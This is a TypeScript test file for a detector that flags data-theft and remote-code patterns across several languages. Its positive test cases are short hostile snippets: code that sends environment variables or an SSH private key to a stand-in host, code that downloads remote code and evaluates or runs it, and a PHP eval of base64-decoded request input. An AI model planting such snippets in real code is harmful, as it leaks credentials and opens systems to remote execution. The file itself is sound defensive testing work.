import { expect, it } from 'vitest';
import { languageOf } from './languages.ts';
import { usesOf } from './usesOf.ts';

const told = (path: string, text: string): string[] =>
  usesOf(text, languageOf(path) ?? { sources: [], uses: [] })
    .filter(({ use }) => use !== 'writes')
    .map(({ stuff, use, to }) => `${stuff} ${use} ${to}`.trim());

it.each([
  [
    'a.rb',
    "h = ENV.to_h\nbody = h.to_json\nHTTParty.post('https://a.dev', body: body)",
    'environment sends https://a.dev',
  ],
  [
    'a.go',
    'func init() {\n\tall := os.Environ()\n\thttp.Post("https://a.dev", "t", strings.NewReader(strings.Join(all, ",")))\n}',
    'environment sends https://a.dev',
  ],
  [
    'a.go',
    'key, _ := os.ReadFile(home + "/.ssh/id_rsa")\nhttp.Post("https://a.dev", "t", bytes.NewReader(key))',
    'keys sends https://a.dev',
  ],
  [
    'A.java',
    'Map<String, String> all = System.getenv();\nvar r = HttpRequest.newBuilder(URI.create("https://a.dev"))\n  .POST(BodyPublishers.ofString(all.toString())).build();',
    'environment sends https://a.dev',
  ],
  ['a.lua', "local t = http.request('https://a.dev/x')\nload(t)()", 'download evaluates https://a.dev/x'],
  [
    'A.cs',
    'var p = Path.GetTempFileName();\nvar b = await client.GetByteArrayAsync("https://a.dev/x");\nFile.WriteAllBytes(p, b);\nProcess.Start(p);',
    'download runs https://a.dev/x',
  ],
  ['a.vbs', 'code = http.responseText\nExecute code', 'download evaluates'],
  [
    'a.php',
    "<?php\n$all = [];\nforeach ($_POST as $k => $v) { $all[] = $v; }\n$c = $_REQUEST['c'];\n$d = base64_decode($c);\n@eval($d);",
    'request evaluates',
  ],
  ['a.pl', "my $c = get('https://a.dev/x');\neval $c;", 'download evaluates https://a.dev/x'],
])('%s: %s', (path, text, expected) => {
  expect(told(path, text)).toContain(expected);
});

it.each([
  ['a.rb', "token = ENV['TOKEN']\nHTTParty.post('https://a.dev', headers: { auth: token })"],
  ['a.go', 'cmd := exec.Command("git", "status")\ncmd.Env = os.Environ()'],
  [
    'A.cs',
    'var text = await client.GetStringAsync("https://a.dev/v");\nConsole.WriteLine(text);\nProcess.Start("notepad");',
  ],
  ['a.php', "<?php\n$id = intval($_GET['id']);\nsystem('ls ' . $id);"],
  ['a.lua', "-- load(http.request('https://a.dev'))\nlocal t = load('return 1')"],
])('%s: nothing in %s', (path, text) => {
  expect(told(path, text)).toEqual([]);
});

it('ends on anything', () => {
  for (const text of ['((((', '"', "'".repeat(9_999), 'a = a\n'.repeat(30_000), 'x'.repeat(100_000)])
    expect(told('a.php', text)).toEqual([]);
});
